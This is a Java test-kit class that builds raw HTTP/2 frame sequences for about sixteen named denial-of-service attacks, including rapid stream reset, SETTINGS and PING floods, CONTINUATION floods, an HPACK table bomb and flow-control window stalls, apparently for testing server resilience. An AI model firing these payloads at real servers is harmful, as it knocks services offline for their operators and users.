package dev.weir.testkit;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import java.util.List;
import java.util.function.ObjIntConsumer;

/** By HTTP/2, and what they are made of. */
public final class Http2Attacks {
  public static final int DATA = 0;
  public static final int HEADERS = 1;
  private static final int PRIORITY = 2;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int WINDOW_UPDATE = 8;
  private static final int CONTINUATION = 9;
  private static final int UNKNOWN = 0x7f;

  public static final int END_STREAM = 1;
  public static final int END_HEADERS = 4;
  public static final int INITIAL_WINDOW_SIZE = 4;
  private static final byte[] PREFACE = Attack.latin1("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
  private static final byte[] NOTHING = {};

  /** A field of the dynamic table, the newest. */
  private static final byte NEWEST = (byte) (0x80 | 62);

  private Http2Attacks() {}

  /**
   * @param get the fields of a request that has no body
   * @param big of one whose answer is large
   * @param post of one that has a body
   */
  public static List<Attack> all(byte[] get, byte[] big, byte[] post) {
    return List.of(
        streams(
            "streams that are reset at once",
            20,
            (out, stream) -> {
              frame(out, HEADERS, END_HEADERS | END_STREAM, stream, get);
              frame(out, RST_STREAM, 0, stream, number(8));
            }),
        streams(
            "streams that are to be reset",
            20,
            (out, stream) -> {
              frame(out, HEADERS, END_HEADERS, stream, post);
              frame(out, WINDOW_UPDATE, 0, stream, number(0));
            }),
        streams(
            "more streams than are allowed",
            20,
            (out, stream) -> frame(out, HEADERS, END_HEADERS, stream, post)),
        streams(
            "heads that are refused",
            20,
            (out, stream) -> frame(out, HEADERS, END_HEADERS | END_STREAM, stream, field("", "a"))),
        frames("settings without an end", SETTINGS, 0, 0, NOTHING),
        frames("pings without an end", PING, 0, 0, new byte[8]),
        frames("priorities without an end", PRIORITY, 0, 1, new byte[] {0, 0, 0, 3, 1}),
        frames("frames of an unknown type", UNKNOWN, 0, 0, new byte[64]),
        frames("windows of nobody's", WINDOW_UPDATE, 0, 0, number(1)),
        after("empty parts of a body", HEADERS, END_HEADERS, post, DATA, 0, NOTHING),
        after("parts of a body of one byte", HEADERS, END_HEADERS, post, DATA, 0, new byte[1]),
        after("a head without an end", HEADERS, 0, post, CONTINUATION, 0, new byte[4 << 10]),
        after("a head of empty parts", HEADERS, 0, post, CONTINUATION, 0, NOTHING),
        bomb(get),
        new Attack("large answers into no window", 30, windowless(big), round -> NOTHING, true),
        new Attack("windows of one byte", 30, windowless(big), round -> dribble(), true));
  }

  public static byte[] bytes(ByteBuf from) {
    byte[] bytes = ByteBufUtil.getBytes(from);
    from.release();
    return bytes;
  }

  /** A preface with settings, id and value in turns. */
  public static ByteBuf opening(int... settings) {
    ByteBuf out = Unpooled.buffer().writeBytes(PREFACE);
    ByteBuf payload = Unpooled.buffer();
    for (int i = 0; i < settings.length; i += 2) {
      payload.writeShort(settings[i]).writeInt(settings[i + 1]);
    }
    frame(out, SETTINGS, 0, 0, bytes(payload));
    return out;
  }

  public static void frame(ByteBuf out, int type, int flags, int stream, byte[] payload) {
    out.writeMedium(payload.length).writeByte(type).writeByte(flags).writeInt(stream);
    out.writeBytes(payload);
  }

  private static byte[] number(int value) {
    return bytes(Unpooled.buffer().writeInt(value));
  }

  /** A literal that is not indexed, its parts shorter than 127 bytes. */
  private static byte[] field(String name, String value) {
    ByteBuf out = Unpooled.buffer().writeByte(0);
    out.writeByte(name.length()).writeBytes(Attack.latin1(name));
    out.writeByte(value.length()).writeBytes(Attack.latin1(value));
    return bytes(out);
  }

  /** The fields of a request; {@code more} are names and values in turns. */
  public static byte[] request(String method, String path, String... more) {
    ByteBuf out =
        Unpooled.buffer()
            .writeBytes(field(":method", method))
            .writeBytes(field(":scheme", "http"))
            .writeBytes(field(":authority", "a"))
            .writeBytes(field(":path", path));
    for (int i = 0; i < more.length; i += 2) {
      out.writeBytes(field(more[i], more[i + 1]));
    }
    return bytes(out);
  }

  /** A hundred streams a round. */
  private static Attack streams(String name, int connections, ObjIntConsumer<ByteBuf> stream) {
    return new Attack(
        name,
        connections,
        bytes(opening()),
        round -> {
          ByteBuf out = Unpooled.buffer();
          for (int i = 0; i < 100; i++) {
            stream.accept(out, 2 * (100 * round + i) + 1);
          }
          return bytes(out);
        },
        true);
  }

  private static Attack frames(String name, int type, int flags, int stream, byte[] payload) {
    byte[] many = many(type, flags, stream, payload);
    return new Attack(name, 20, bytes(opening()), round -> many, true);
  }

  private static byte[] many(int type, int flags, int stream, byte[] payload) {
    ByteBuf out = Unpooled.buffer();
    for (int i = 0; i < 500; i++) {
      frame(out, type, flags, stream, payload);
    }
    return bytes(out);
  }

  /** Frames of a stream behind its first one. */
  private static Attack after(
      String name, int type, int flags, byte[] payload, int nextType, int nextFlags, byte[] next) {
    ByteBuf first = opening();
    frame(first, type, flags, 1, payload);
    byte[] many = many(nextType, nextFlags, 1, next);
    return new Attack(name, 20, bytes(first), round -> many, true);
  }

  /** A long value put into the dynamic table, and named by one byte again and again. */
  private static Attack bomb(byte[] get) {
    ByteBuf value = Unpooled.buffer().writeBytes(get);
    value.writeByte(0x40).writeByte(1).writeByte('x');
    int length = 3900;
    value.writeByte(127).writeByte(length - 127 & 127 | 128).writeByte(length - 127 >> 7);
    value.writeBytes(new byte[length].clone());
    byte[] plant = bytes(value);
    java.util.Arrays.fill(plant, plant.length - length, plant.length, (byte) 'a');
    byte[] fields = new byte[16_000 - 100];
    java.util.Arrays.fill(fields, NEWEST);
    byte[] burst = bytes(Unpooled.buffer().writeBytes(get).writeBytes(fields));
    ByteBuf first = opening();
    frame(first, HEADERS, END_HEADERS | END_STREAM, 1, plant);
    return new Attack(
        "a field of the table in thousands",
        20,
        bytes(first),
        round -> {
          ByteBuf out = Unpooled.buffer();
          frame(out, HEADERS, END_HEADERS | END_STREAM, 2 * round + 3, burst);
          return bytes(out);
        },
        true);
  }

  /** A hundred requests whose answers may not be sent. */
  private static byte[] windowless(byte[] request) {
    ByteBuf out = opening(INITIAL_WINDOW_SIZE, 0);
    for (int i = 0; i < 100; i++) {
      frame(out, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request);
    }
    return bytes(out);
  }

  private static byte[] dribble() {
    ByteBuf out = Unpooled.buffer();
    for (int i = 0; i < 100; i++) {
      frame(out, WINDOW_UPDATE, 0, 2 * i + 1, number(1));
    }
    return bytes(out);
  }
}
